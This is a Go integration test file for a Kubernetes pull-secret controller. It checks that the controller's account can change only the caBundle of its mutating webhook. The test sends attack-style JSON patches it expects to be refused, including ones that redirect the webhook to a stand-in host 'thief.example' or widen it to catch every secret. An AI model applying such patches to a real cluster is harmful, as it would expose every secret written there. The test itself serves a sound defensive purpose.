package rights_test

import (
	"encoding/base64"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	client "fairlead.dev/fairlead/test/clients/harness"
	"fairlead.dev/fairlead/test/cluster/harness"
)

// hooks is where the webhook's configuration is.
const hooks = "/apis/admissionregistration.k8s.io/v1/mutatingwebhookconfigurations/fairlead-pull-secrets"

// withWebhook installs what deploy/controller has of the webhook.
func (s *site) withWebhook() {
	s.t.Helper()
	root, err := client.Root()
	if err != nil {
		s.t.Fatal(err)
	}
	file := filepath.Join(root, "deploy", "controller", "webhook.yaml")
	s.system.Kubectl("apply", "--server-side", "-f", file)
	s.t.Cleanup(func() { s.system.Kubectl("delete", "-f", file) })
}

// TestCannotTurnTheWebhook: of the webhook's configuration the account changes
// caBundle and nothing else. Rules and an address of the thief's choice would
// show him every secret that anybody writes in the cluster.
func TestCannotTurnTheWebhook(t *testing.T) {
	s := newSite(t)
	s.withWebhook()
	const jsonPatch = "application/json-patch+json"
	authority, err := os.ReadFile(client.NewAuthority(t, "webhook").File)
	if err != nil {
		t.Fatal(err)
	}
	bundle := base64.StdEncoding.EncodeToString(authority)
	patch := func(query, kind, body string) (int, string) {
		return s.keeper.Request("PATCH", hooks+query, kind, body)
	}
	harness.Until(t, "the rule", func() error {
		if status, answer := patch("?dryRun=All", mergePatch, `{"metadata":{"labels":{"a":"b"}}}`); !strings.Contains(answer, denied+"webhook") {
			return fmt.Errorf("%d %s", status, answer)
		}
		return nil
	})
	before := s.system.Kubectl("get", "mutatingwebhookconfiguration", "fairlead-pull-secrets", "-o", "jsonpath={.metadata.labels}{.metadata.annotations}{.webhooks}")
	const first = "/webhooks/0/"
	for _, body := range []string{
		`[{"op":"replace","path":"` + first + `rules","value":[{"apiGroups":["*"],"apiVersions":["*"],"resources":["*/*"],"operations":["*"],"scope":"*"}]}]`,
		`[{"op":"add","path":"` + first + `rules/-","value":{"apiGroups":[""],"apiVersions":["v1"],"resources":["secrets"],"operations":["CREATE","UPDATE"]}}]`,
		`[{"op":"replace","path":"` + first + `rules/0/resources/0","value":"secrets"}]`,
		`[{"op":"replace","path":"` + first + `rules/0/scope","value":"*"}]`,
		`[{"op":"remove","path":"` + first + `rules"}]`,
		`[{"op":"remove","path":"` + first + `namespaceSelector"}]`,
		`[{"op":"replace","path":"` + first + `namespaceSelector/matchExpressions/0/values","value":["none"]}]`,
		`[{"op":"add","path":"` + first + `objectSelector","value":{"matchLabels":{"a":"b"}}}]`,
		`[{"op":"replace","path":"` + first + `clientConfig","value":{"url":"https://thief.example/all"}}]`,
		`[{"op":"replace","path":"` + first + `clientConfig","value":{"url":"https://thief.example/all","caBundle":"` + bundle + `"}}]`,
		`[{"op":"replace","path":"` + first + `clientConfig/service/namespace","value":"default"}]`,
		`[{"op":"replace","path":"` + first + `clientConfig/service/name","value":"thief"}]`,
		`[{"op":"replace","path":"` + first + `clientConfig/service/path","value":"/"}]`,
		`[{"op":"replace","path":"` + first + `clientConfig/service/port","value":444}]`,
		`[{"op":"replace","path":"` + first + `failurePolicy","value":"Fail"}]`,
		`[{"op":"replace","path":"` + first + `matchPolicy","value":"Exact"}]`,
		`[{"op":"add","path":"` + first + `matchConditions","value":[{"name":"a","expression":"false"}]}]`,
		`[{"op":"replace","path":"` + first + `reinvocationPolicy","value":"Never"}]`,
		`[{"op":"replace","path":"` + first + `sideEffects","value":"NoneOnDryRun"}]`,
		`[{"op":"replace","path":"` + first + `timeoutSeconds","value":30}]`,
		`[{"op":"add","path":"` + first + `admissionReviewVersions/-","value":"v1beta1"}]`,
		`[{"op":"replace","path":"` + first + `name","value":"other.fairlead.dev"}]`,
		`[{"op":"copy","from":"/webhooks/0","path":"/webhooks/1"},{"op":"replace","path":"/webhooks/1/name","value":"second.fairlead.dev"}]`,
		`[{"op":"replace","path":"/webhooks","value":[]}]`,
		`[{"op":"add","path":"/metadata/labels","value":{"a":"b"}}]`,
		`[{"op":"add","path":"/metadata/annotations","value":{"a":"b"}}]`,
		`[{"op":"add","path":"/metadata/finalizers","value":["a.example/b"]}]`,
		`[{"op":"add","path":"/metadata/ownerReferences","value":[{"apiVersion":"v1","kind":"Namespace","name":"a","uid":"b"}]}]`,
		`[{"op":"add","path":"` + first + `clientConfig/caBundle","value":"` + bundle + `"},{"op":"replace","path":"` + first + `rules/0/resources/0","value":"secrets"}]`,
	} {
		if status, answer := patch("", jsonPatch, body); status < 400 || !strings.Contains(answer, denied+"webhook") {
			t.Errorf("%s: %d, want a refusal by the rule\n%s", body, status, answer)
		}
	}
	if after := s.system.Kubectl("get", "mutatingwebhookconfiguration", "fairlead-pull-secrets", "-o", "jsonpath={.metadata.labels}{.metadata.annotations}{.webhooks}"); after != before {
		t.Errorf("it is\n%s\nand was\n%s", after, before)
	}
	for _, body := range []string{ // what it may
		`[{"op":"add","path":"` + first + `clientConfig/caBundle","value":"` + bundle + `"}]`,
		`[{"op":"remove","path":"` + first + `clientConfig/caBundle"}]`,
	} {
		if status, answer := patch("", jsonPatch, body); status != 200 {
			t.Errorf("%s: %d %s", body, status, answer)
		}
	}
	for _, method := range []string{"PUT", "DELETE"} {
		if status, answer := s.keeper.Request(method, hooks, jsonType, "{}"); status != 403 || !strings.Contains(answer, forbidden) {
			t.Errorf("%s: %d %s", method, status, answer)
		}
	}
	// Others change it as they like.
	s.system.Kubectl("label", "mutatingwebhookconfiguration", "fairlead-pull-secrets", "a=b")
}

// TestOthersMutate: a label that somebody else's rule adds to every service
// account that is written does not keep the controller from its list.
func TestOthersMutate(t *testing.T) {
	s := newSite(t)
	ns := s.chosen()
	s.system.Apply(fmt.Sprintf(`apiVersion: admissionregistration.k8s.io/v1
kind: MutatingAdmissionPolicy
metadata: {name: %[1]s}
spec:
  failurePolicy: Fail
  reinvocationPolicy: Never
  matchConstraints:
    namespaceSelector: {matchLabels: {kubernetes.io/metadata.name: %[2]s}}
    resourceRules: [{apiGroups: [""], apiVersions: [v1], operations: [UPDATE], resources: [serviceaccounts]}]
  mutations:
  - patchType: ApplyConfiguration
    applyConfiguration: {expression: 'Object{metadata: Object.metadata{labels: {"seen-by": "others"}}}'}
---
apiVersion: admissionregistration.k8s.io/v1
kind: MutatingAdmissionPolicyBinding
metadata: {name: %[1]s}
spec: {policyName: %[1]s}
`, s.name, ns.Name))
	t.Cleanup(func() {
		s.system.Kubectl("delete", "mutatingadmissionpolicy,mutatingadmissionpolicybinding", s.name)
	})
	harness.Until(t, "the other's rule", func() error {
		if got := ns.Kubectl("annotate", "serviceaccount", "default", "a=b", "--overwrite", "--dry-run=server", "-o", "jsonpath={.metadata.labels}"); !strings.Contains(got, "seen-by") {
			return fmt.Errorf("the labels are %s", got)
		}
		return nil
	})
	s.source("hub", "robot", "*")
	s.policy("{host: registry.example, secret: {name: hub}}")
	s.keeper.Controller().Ready()
	has(t, ns, "registry.example")
	if got := ns.Kubectl("get", "serviceaccount", "default", "-o", "jsonpath={.metadata.labels}"); !strings.Contains(got, "seen-by") {
		t.Errorf("the other's rule was not asked: the labels are %s", got)
	}
}
